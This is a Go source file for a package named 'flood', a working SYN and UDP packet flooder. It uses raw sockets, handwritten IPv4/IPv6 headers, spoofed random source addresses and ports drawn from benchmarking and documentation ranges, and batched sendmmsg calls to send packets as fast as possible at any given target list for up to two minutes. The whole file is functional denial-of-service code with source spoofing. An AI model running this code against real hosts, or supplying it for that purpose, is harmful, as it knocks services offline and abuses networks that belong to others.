package flood

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"runtime"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Config says whom to flood, and for how long.
type Config struct {
	Targets  []netip.AddrPort // taken in turns, of either family
	UDP      bool             // datagrams instead of SYNs
	Duration time.Duration    // at most maxDuration
}

// Where the packets claim to come from: networks for benchmarks and documentation, which nobody has.
var (
	Sources4 = netip.MustParsePrefix("198.18.0.0/15")
	Sources6 = netip.MustParsePrefix("2001:db8:bad::/48")
)

// maxDuration bounds every flood.
const maxDuration = 2 * time.Minute

// Result is what was sent.
type Result struct {
	Packets int           `json:"packets"`
	Took    time.Duration `json:"took"`
}

// Run floods until the duration is over or ctx ends.
func Run(ctx context.Context, config Config) (Result, error) {
	if len(config.Targets) == 0 || config.Duration <= 0 || config.Duration > maxDuration {
		return Result{}, fmt.Errorf("flood: needs a target, and a duration of at most %v", maxDuration)
	}
	runtime.LockOSThread() // one thread, at full speed
	defer runtime.UnlockOSThread()
	batches := make([]*batch, 0, len(config.Targets))
	for _, target := range config.Targets {
		b, err := newBatch(target, config.UDP)
		if err != nil {
			return Result{}, fmt.Errorf("flood %s: %w", target, err)
		}
		defer b.close()
		batches = append(batches, b)
	}
	ctx, cancel := context.WithTimeout(ctx, config.Duration)
	defer cancel()
	var r Result
	began := time.Now()
	for ctx.Err() == nil {
		for _, b := range batches {
			n, err := b.send()
			if err != nil {
				return r, fmt.Errorf("flood %s: %w", b.target, err)
			}
			r.Packets += n
		}
	}
	r.Took = time.Since(began)
	return r, nil
}

// batchSize is how many packets one system call sends.
const batchSize = 64

// batch is the packets of one system call, and what it needs to send them.
type batch struct {
	target   netip.AddrPort
	socket   int
	random   *rand.Rand
	packets  [batchSize][]byte
	vectors  [batchSize]unix.Iovec
	messages [batchSize]message
	address4 unix.RawSockaddrInet4
	address6 unix.RawSockaddrInet6
}

// message is the kernel's struct mmsghdr.
type message struct {
	header unix.Msghdr
	_      uint32 // how much of it was sent
	_      [4]byte
}

func newBatch(target netip.AddrPort, udp bool) (*batch, error) {
	b := &batch{target: target, random: rand.New(rand.NewPCG(1, uint64(target.Port())))}
	family := unix.AF_INET
	if target.Addr().Is6() {
		family = unix.AF_INET6
	}
	var err error
	// IPPROTO_RAW: the packets have their own IP headers.
	if b.socket, err = unix.Socket(family, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW); err != nil {
		return nil, err
	}
	b.address4 = unix.RawSockaddrInet4{Family: unix.AF_INET}
	b.address6 = unix.RawSockaddrInet6{Family: unix.AF_INET6}
	name, size := unsafe.Pointer(&b.address4), uint32(unix.SizeofSockaddrInet4)
	if target.Addr().Is6() {
		b.address6.Addr = target.Addr().As16()
		name, size = unsafe.Pointer(&b.address6), unix.SizeofSockaddrInet6
	} else {
		b.address4.Addr = target.Addr().As4()
	}
	for i := range b.packets {
		b.packets[i] = template(target, udp)
		b.vectors[i].Base = &b.packets[i][0]
		b.vectors[i].SetLen(len(b.packets[i]))
		h := &b.messages[i].header
		h.Name, h.Namelen = (*byte)(name), size
		h.Iov = &b.vectors[i]
		h.SetIovlen(1)
	}
	return b, nil
}

func (b *batch) close() { _ = unix.Close(b.socket) }

// send gives each packet another source, and sends all.
func (b *batch) send() (int, error) {
	for _, p := range b.packets {
		spoof(p, b.random)
	}
	n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(b.socket), uintptr(unsafe.Pointer(&b.messages[0])), batchSize, 0, 0, 0)
	switch {
	case errno == 0:
		return int(n), nil
	case errors.Is(errno, unix.ENOBUFS), errors.Is(errno, unix.EAGAIN), errors.Is(errno, unix.EINTR):
		return 0, nil // a queue is full: faster than the path
	}
	return 0, errno
}

const (
	header4, header6 = 20, 40
	transport        = 24 // bytes: a TCP header with the MSS, or a UDP header with 16 bytes
	flagSYN          = 0x02
)

// template is a packet to the target; spoof fills in the rest.
func template(target netip.AddrPort, udp bool) []byte {
	length, protocol := header4, byte(unix.IPPROTO_TCP)
	if target.Addr().Is6() {
		length = header6
	}
	if udp {
		protocol = unix.IPPROTO_UDP
	}
	p := make([]byte, length+transport)
	if target.Addr().Is6() {
		p[0], p[6], p[7] = 0x60, protocol, 64
		binary.BigEndian.PutUint16(p[4:], transport)
		source := Sources6.Addr().As16()
		copy(p[8:], source[:])
		copy(p[24:], target.Addr().AsSlice())
	} else {
		p[0], p[8], p[9] = 0x45, 64, protocol
		binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
		binary.BigEndian.PutUint16(p[6:], 0x4000) // do not fragment
		source := Sources4.Addr().As4()
		copy(p[12:], source[:])
		copy(p[16:], target.Addr().AsSlice())
	}
	l4 := p[length:]
	binary.BigEndian.PutUint16(l4[2:], target.Port())
	if udp {
		binary.BigEndian.PutUint16(l4[4:], transport)
		return p
	}
	l4[12], l4[13] = transport/4<<4, flagSYN
	binary.BigEndian.PutUint16(l4[14:], 65535)
	copy(l4[20:], []byte{2, 4, 1460 >> 8, 1460 & 0xff})
	return p
}

// spoof draws the source's address and port, and a sequence number. The kernel writes the checksum of
// an IPv4 header itself.
func spoof(p []byte, random *rand.Rand) {
	l4, addresses, protocol := p[header4:], p[12:20], p[9]
	if p[0]>>4 == 6 {
		l4, addresses, protocol = p[header6:], p[8:40], p[6]
		binary.BigEndian.PutUint64(p[16:], random.Uint64())
	} else {
		p[13] = Sources4.Addr().As4()[1] | byte(random.Uint32()&1)
		binary.BigEndian.PutUint16(p[14:], uint16(random.Uint32()))
	}
	binary.BigEndian.PutUint16(l4, uint16(1024+random.Uint32N(64000)))
	checksum := l4[6:8]
	if protocol == unix.IPPROTO_TCP {
		binary.BigEndian.PutUint32(l4[4:], random.Uint32())
		checksum = l4[16:18]
	}
	binary.BigEndian.PutUint16(checksum, 0)
	sum := add(add(uint32(protocol)+transport, addresses), l4)
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(checksum, ^uint16(sum))
}

func add(sum uint32, data []byte) uint32 {
	for i := 0; i < len(data); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(data[i:]))
	}
	return sum
}
